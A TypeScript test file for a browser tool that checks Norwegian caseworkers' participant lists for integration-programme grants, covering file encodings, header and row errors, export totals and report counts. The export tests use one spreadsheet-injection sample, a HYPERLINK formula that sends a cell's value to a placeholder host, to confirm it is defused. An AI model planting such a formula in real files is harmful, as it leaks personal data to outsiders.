/**
 * The participant list as the browser page reads and writes it (issue #16 items 1–3, 5, 6; issue #12
 * item 3): the file's encoding, the header report, row errors a caseworker can act on, the download
 * (one row per participant, the grant only where a determination triggers it, formulas defused), the
 * .xlsx without formula cells, and the counts handed to the report. Fixed data, no randomness.
 */
import Papa from "papaparse";
import { unzipSync, strFromU8 } from "fflate";
import writeXlsxFile from "write-excel-file/universal";
import { describe, expect, it } from "vitest";
import { readHeader } from "../../functions/core/batch/columns";
import { downloadCsv, downloadTable, xlsxRows } from "../../functions/core/batch/download";
import { decodeText } from "../../functions/core/batch/encoding";
import { listWords } from "../../functions/core/batch/listWords";
import { handOver, readHandOver } from "../../functions/core/batch/prefill";
import { parseList, type Cell } from "../../functions/core/batch/rows";
import { evaluateRows, summarise } from "../../functions/core/batch/summary";
import { rowErrorText, statusWord } from "../../functions/core/batch/words";
import { getRule, isPersonRule, type RuleId } from "../../functions/core/rules";
import { caseworkerList, windows1252 } from "../tools/participantList";

const ASOF = "2026-11-22";
const nb = listWords("nb");
const parseCsv = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
const utf8 = (text: string) => new TextEncoder().encode(text);

/** The page's pipeline, as the Worker runs it: bytes → text → rows → persons → determinations → summary. */
function check(bytes: Uint8Array) {
  const { text, encoding } = decodeText(bytes);
  const list = parseList(parseCsv(text));
  const results = evaluateRows(list.rows, ASOF);
  return { encoding, list, results, summary: summarise(results) };
}

describe("the file's text: a byte-order mark decides, else strict UTF-8, else Windows-1252", () => {
  const cases: Array<[string, Uint8Array, string]> = [
    ["UTF-8 with BOM", new Uint8Array([0xef, 0xbb, 0xbf, ...utf8("sluttmål")]), "utf-8"],
    ["UTF-8 without BOM", utf8("sluttmål"), "utf-8"],
    ["UTF-16 LE with BOM (Excel 'Unicode text')", new Uint8Array([0xff, 0xfe, ...[..."sluttmål"].flatMap((c) => [c.charCodeAt(0), 0])]), "utf-16le"],
    ["UTF-16 BE with BOM", new Uint8Array([0xfe, 0xff, ...[..."sluttmål"].flatMap((c) => [0, c.charCodeAt(0)])]), "utf-16be"],
    ["Windows-1252 (Excel 'CSV (semikolondelt)')", windows1252("sluttmål"), "windows-1252"],
  ];
  it.each(cases)("%s", (_name, bytes, encoding) => {
    expect(decodeText(bytes)).toMatchObject({ text: "sluttmål", encoding });
  });

  it("Windows-1252's own letters (€, –, ‰) come out as themselves", () => {
    expect(decodeText(new Uint8Array([0x80, 0x20, 0x96, 0x20, 0x89])).text).toBe("€ – ‰");
  });

  it("a Windows-1252 list keeps 'videregående' and 'sluttmål' and gives exactly the UTF-8 file's results", () => {
    const fromCp1252 = check(windows1252(caseworkerList()));
    const fromUtf8 = check(utf8(caseworkerList()));
    expect(fromCp1252.encoding).toBe("windows-1252");
    expect(fromCp1252.list.header.recognised.map((c) => c.header)).toContain("videregående");
    expect(fromCp1252.list.header.recognised.map((c) => c.header)).toContain("sluttmål");
    expect(fromCp1252.list.header.ignored.map((c) => c.header)).toEqual(["Navn", "Merknad"]);
    expect(fromCp1252.results).toEqual(fromUtf8.results);
    // What the page did before: the same bytes read as UTF-8 lose both columns, and the results change.
    const asUtf8 = parseList(parseCsv(new TextDecoder().decode(windows1252(caseworkerList()))));
    expect(asUtf8.header.recognised.map((c) => c.key)).not.toContain("upperSecondary");
    expect(evaluateRows(asUtf8.rows, ASOF)).not.toEqual(fromUtf8.results);
  });
});

describe("the header row: recognised, ignored with a reason, missing", () => {
  it("reads bokmål, nynorsk, English and common variants, whatever the case, spacing or å", () => {
    const report = readHeader(["Referanse", "LOVGRUNNLAG", "Programme start", "norsk_slutt", "Vidaregåande", "videregaaende", "sluttmal", "busett", "løyve gitt", " Rett og plikt norsk ", "Navn", ""]);
    expect(report.recognised.map((c) => c.key)).toEqual(["ref", "legalBasis", "programme.start", "norwegianTraining.end", "upperSecondary", "endGoal", "settled", "permitGranted", "norwegianTraining.rightAndDuty"]);
    expect(report.ignored).toEqual([
      { index: 5, header: "videregaaende", reason: "duplicate" },
      { index: 10, header: "Navn", reason: "unknown" },
    ]);
    expect(report.missing).toEqual([]);
  });

  it("says when the legal basis column is missing", () => {
    expect(readHeader(["referanse", "programstart"]).missing).toEqual(["legalBasis"]);
  });
});

describe("row errors say the value found and what is allowed; nynorsk and variants are read", () => {
  const rows = (lines: string[]) => parseList(lines.map((l) => l.split(";")) as Cell[][]).rows;

  it("reads nynorsk and common spellings of values", () => {
    const [a, b, c] = rows([
      "lovgrunnlag;alder;vidaregåande;sluttmål;barn under 18",
      "introduksjonslova;31 år;JA;anna;nei",
      "Kollektivt vern;40;nei;fullført vidaregåande;x",
      "integreringslova;22;Nei;Arbeid;",
    ]);
    expect(a).toMatchObject({ errors: [], person: { legalBasis: "introduksjonsloven", age: 31, upperSecondary: true, endGoal: "other", childrenUnder18: false } });
    expect(b).toMatchObject({ errors: [], person: { legalBasis: "collective-protection", endGoal: "upper-secondary", childrenUnder18: true } });
    expect(c).toMatchObject({ errors: [], person: { legalBasis: "integreringsloven", endGoal: "work" } });
  });

  it.each([
    ["alder", "tretti", "Rad 2, kolonne «alder»: «tretti» – skriv et helt tall, for eksempel 31"],
    ["programstart", "15/08/2019", "Rad 2, kolonne «programstart»: «15/08/2019» – skriv datoen som dd.mm.åååå, for eksempel 15.08.2019 (åååå-mm-dd går også)"],
    ["programstart", "30.02.2019", "Rad 2, kolonne «programstart»: «30.02.2019» – Datoen finnes ikke i kalenderen."],
    ["rett og plikt norsk", "kanskje", "Rad 2, kolonne «rett og plikt norsk»: «kanskje» – skriv ja eller nei"],
    ["sluttmål", "pensjon", "Rad 2, kolonne «sluttmål»: «pensjon» – skriv en av disse: arbeid, utdanning, fullført videregående, annet"],
    ["alder", "200", "Rad 2, kolonne «alder»: «200» – Verdien er for stor."],
  ])("«%s» = %s", (column, value, text) => {
    const [row] = rows([`lovgrunnlag;${column}`, `introduksjonsloven;${value}`]);
    expect(row?.person).toBeUndefined();
    expect(row?.errors.map((e) => rowErrorText(e, nb))).toEqual([text]);
  });

  it("an unknown or empty legal basis names the accepted words", () => {
    const [unknown, empty] = rows(["referanse;lovgrunnlag;alder", "A;asyl;30", "B;;30"]);
    expect(rowErrorText(unknown!.errors[0]!, nb)).toBe("Rad 2, kolonne «lovgrunnlag»: «asyl» – skriv en av disse: introduksjonsloven, integreringsloven, kollektiv beskyttelse");
    expect(rowErrorText(empty!.errors[0]!, nb)).toBe("Rad 3, kolonne «lovgrunnlag» er tom – skriv en av disse: introduksjonsloven, integreringsloven, kollektiv beskyttelse");
  });

  it("an end before the start is named at the end column, with the value found", () => {
    const [row] = rows(["lovgrunnlag;programstart;programslutt", "introduksjonsloven;01.12.2019;01.11.2019"]);
    expect(row!.errors.map((e) => rowErrorText(e, nb))).toEqual(["Rad 2, kolonne «programslutt»: «01.11.2019» – Sluttdatoen kan ikke være før startdatoen."]);
  });
});

describe("the download: one row per participant, the grant only where it is triggered (issue #16 item 1)", () => {
  const run = check(utf8(caseworkerList()));
  const table = downloadTable({ headers: run.list.headers, cells: run.list.cells, rows: run.list.rows, results: run.results, words: nb });
  const screenTotal = run.summary.reduce((sum, s) => sum + s.amountNok, 0);
  const grants = (row: (string | number | boolean | Date | null)[]) => table.grantColumns.reduce((sum, c) => sum + (typeof row[c] === "number" ? (row[c] as number) : 0), 0);

  it("sums, in the file, to the screen's total, and the total row says so", () => {
    const fileTotal = table.body.reduce((sum, row) => sum + grants(row), 0);
    expect(screenTotal).toBeGreaterThan(0);
    expect(fileTotal).toBe(screenTotal);
    expect(grants(table.total)).toBe(screenTotal);
    expect(table.total[0]).toBe("Sum");
    // What the file used to write: every determination's rate, entitled or not — far above the screen.
    const rate = (id: RuleId) => {
      const rule = getRule(id);
      return isPersonRule(rule) ? (rule.figures.grantNok ?? 0) : 0;
    };
    const everyRate = run.results.flatMap((r) => r.determinations).reduce((sum, d) => sum + rate(d.rule), 0);
    expect(everyRate).toBeGreaterThan(screenTotal);
  });

  it("fills a grant cell only for a determination that triggers it, and its status says so in words", () => {
    for (const result of run.results) {
      for (const d of result.determinations) {
        expect(d.grantNok === null || d.status === "entitled" || d.status === "needs-assessment", `${result.ref} ${d.rule} ${d.status}`).toBe(true);
      }
    }
    const k02 = table.body[run.list.rows.findIndex((r) => r.ref === "K-02")]!;
    const column = (name: string) => table.header.indexOf(name);
    expect(k02[column("Utvidet programtid (integreringspakke II): status")]).toBe(statusWord({ kind: "right", status: "needs-assessment" }, nb));
    expect(k02[column("Utvidet programtid (integreringspakke II): tilskudd (kr)")]).toBe(45000);
    expect(k02[column("Utvidet programtid (integreringspakke III): status")]).toBe("Har ikke rett");
    expect(k02[column("Utvidet programtid (integreringspakke III): tilskudd (kr)")]).toBeNull();
    expect(k02[column("Utvidet programtid (integreringspakke III): maks måneder")]).toBeNull();
    expect(k02[column("IP3-PROG")]).toBe("not-entitled");
    // A duty that applies (parent guidance for a parent under chapter 6A) is said in words and claims nothing.
    const k14 = table.body[run.list.rows.findIndex((r) => r.ref === "K-14")]!;
    expect(k14[column("UA-PARENT")]).toBe("applies");
    expect(k14[column(`${nb.rules["UA-PARENT"]}: status`)]).toBe(nb.statusesForInformation.applies);
    expect(table.header).not.toContain(`${nb.rules["UA-PARENT"]}: tilskudd (kr)`);
  });

  it("keeps the caseworker's own columns as they were, every participant once, errors in words", () => {
    expect(table.header.slice(0, 14)).toEqual(run.list.headers);
    expect(table.body).toHaveLength(24);
    expect(table.body.map((row) => row[0])).toEqual(caseworkerList().trim().split("\r\n").slice(1).map((l) => l.split(";")[0]));
    const k05 = table.body[4]!;
    expect(k05[table.header.indexOf("Feil")]).toBe("Rad 6, kolonne «alder»: «tretti» – skriv et helt tall, for eksempel 31");
    expect(table.grantColumns.every((c) => k05[c] === null)).toBe(true);
  });

  it("writes CSV with RFC 4180 quoting and formulas defused (issue #12 item 3)", () => {
    const csv = downloadCsv(table);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;
    expect(parsed).toHaveLength(1 + 24 + 1);
    const comment = parsed[6]![table.header.indexOf("Merknad")];
    expect(comment).toBe(`'=HYPERLINK("http://x.example/?leak="&A7,"klikk")`);
    expect(parsed.slice(1, -1).reduce((sum, row) => sum + table.grantColumns.reduce((s, c) => s + Number(row[c] || 0), 0), 0)).toBe(screenTotal);
  });

  it("writes an .xlsx whose cells are values, never formulas, with numbers as numbers", async () => {
    const blob = await writeXlsxFile(xlsxRows(table), { stickyRowsCount: 1 }).toBlob();
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    const sheet = strFromU8(files["xl/worksheets/sheet1.xml"]!);
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).toMatch(/<c r="[A-Z]+\d+"><v>45000<\/v><\/c>/);
    const strings = strFromU8(files["xl/sharedStrings.xml"] ?? new Uint8Array()) + sheet;
    expect(strings).toContain('<t>=HYPERLINK("http://x.example/?leak="&amp;A7,"klikk")</t>');
  });
});

describe("the counts handed to the report (issue #16 item 6)", () => {
  const run = check(utf8(caseworkerList()));

  it("counts those the municipality assesses only when the caseworker chooses", () => {
    const line = run.summary.find((s) => s.line === "ip3-programme")!;
    expect(line.byStatus["needs-assessment"]).toBeGreaterThan(0);
    const without = handOver(run.summary, ASOF, run.results.length, false).lines["ip3-programme"];
    const withAssessed = handOver(run.summary, ASOF, run.results.length, true).lines["ip3-programme"];
    expect(without).toEqual({ count: line.byStatus.entitled, assessed: line.byStatus["needs-assessment"], assessedIncluded: false });
    expect(withAssessed).toEqual({ count: line.count, assessed: line.byStatus["needs-assessment"], assessedIncluded: true });
    const norwegian = handOver(run.summary, ASOF, run.results.length, false).lines["ip3-norwegian"]!;
    expect(norwegian.count).toBe(run.summary.find((s) => s.line === "ip3-norwegian")!.count);
  });

  it("reads back only what it wrote", () => {
    const saved = handOver(run.summary, ASOF, run.results.length, false);
    expect(readHandOver(JSON.stringify(saved))).toEqual(saved);
    for (const bad of [null, "", "{", '{"version":2}', JSON.stringify({ ...saved, lines: { x: { count: -1, assessed: 0, assessedIncluded: false } } }), JSON.stringify({ ...saved, asOf: "i går" })]) {
      expect(readHandOver(bad)).toBeUndefined();
    }
  });
});
